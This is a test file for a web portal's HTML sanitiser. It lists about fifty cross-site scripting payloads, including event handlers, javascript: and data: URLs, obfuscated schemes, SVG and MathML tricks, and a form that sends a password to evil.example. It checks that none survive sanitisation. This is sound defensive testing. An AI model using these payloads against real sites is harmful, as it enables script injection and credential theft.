import { describe, expect, it } from 'vitest';
import { htmlOf, sanitised } from './content-html.ts';

/** Ways of bringing a script, a style or a frame into a page; none may leave more than text. */
const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="files/a.png" onerror="alert(1)">',
  '<img src=`x` onerror=`alert(1)`>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 1x" src="//evil.example/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://portal.example/1">x</a>',
  '<a onclick="alert(1)" onmouseover=alert(1) style="color:red" id="login" class="x" name="y" target="_blank">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '![x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p title="--><script>alert(1)</script>">x</p>',
];

const allowed =
  /^<(?:\/?(?:h[2-6]|p|ul|ol|li|blockquote|pre|code|em|strong|b|i|a|img|br|hr|table|tbody|thead|tr|td|th|details|summary|div))\b/;

describe('sanitised content', () => {
  it('is tried with enough (XS-1)', () => {
    expect(vectors.length).toBeGreaterThanOrEqual(40);
  });

  it.each(vectors)('%s runs nothing and loads nothing (XS-1)', (vector) => {
    for (const html of [htmlOf(vector), sanitised(vector), sanitised(sanitised(vector))]) {
      for (const tag of html.match(/<[^>]*>/g) ?? []) {
        expect(tag).toMatch(allowed);
        expect(tag).not.toMatch(/\son\w+\s*=|style=|id=|class=|name=|srcset=|target=|background=|xlink|formaction/i);
        expect(tag).not.toMatch(/(?:href|src)="\s*(?:javascript|vbscript|data|blob)/i);
      }
      expect(html).not.toMatch(/(?:src|href)="[^"]*evil\.example/);
    }
  });

  it('leaves what texts are made of', () => {
    const html = htmlOf(
      '# One\n\nA **bold** *word*, `code`.\n\n- [x] item\n\n> quote\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |',
    );
    expect(html).toContain('<h2 id="section-one">One</h2>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<div role="group" aria-label="Table" tabindex="0"><table>');
    expect(html).toContain('<td align="right">2</td>');
    expect(htmlOf('<details><summary>More</summary>\n\ntext\n\n</details>')).toContain('<summary>More</summary>');
  });

  it.each([
    ['[x](/resources)', '<a href="/resources">'],
    ['[x](/resources/#top)', '<a href="/resources/#section-top">'],
    ['[x](#repair-times)', '<a href="#section-repair-times">'],
    ['## Repair times', '<h2 id="section-repair-times">Repair times</h2>'],
    ['<h2 id="root">Page</h2>', '<h2>Page</h2>'],
    ['[x](files/form.pdf)', '<a href="/api/content/files/form.pdf">'],
    ['[x](mailto:a@b.example)', '<a href="mailto:a@b.example">'],
    ['[x](tel:8005550100)', '<a href="tel:8005550100">'],
    ['[x](https://other.example/a)', '<a href="https://other.example/a" rel="noopener noreferrer">'],
    ['[x](//other.example/a)', '<a href="https://other.example/a" rel="noopener noreferrer">'],
    ['<a href="/\\other.example">x</a>', '<a href="https://other.example/" rel="noopener noreferrer">'],
    [
      '![Box](files/box.svg "Title")',
      '<img src="/api/content/files/box.svg" alt="Box" loading="lazy" title="Title" />',
    ],
    ['![Box](/uploads/box_1.png)', '<img src="/api/content/files/box_1.png" alt="Box" loading="lazy" />'],
  ])('%s becomes %s', (markdown, html) => {
    expect(htmlOf(markdown)).toContain(html);
  });

  it.each([
    '![x](https://other.example/a.png)',
    '![x](../secret.png)',
    '![x](files/a/b.png)',
    '![x](/api/content/files/..)',
  ])('%s is no picture of the portal and left out', (markdown) => {
    expect(htmlOf(markdown)).not.toContain('<img');
  });
});
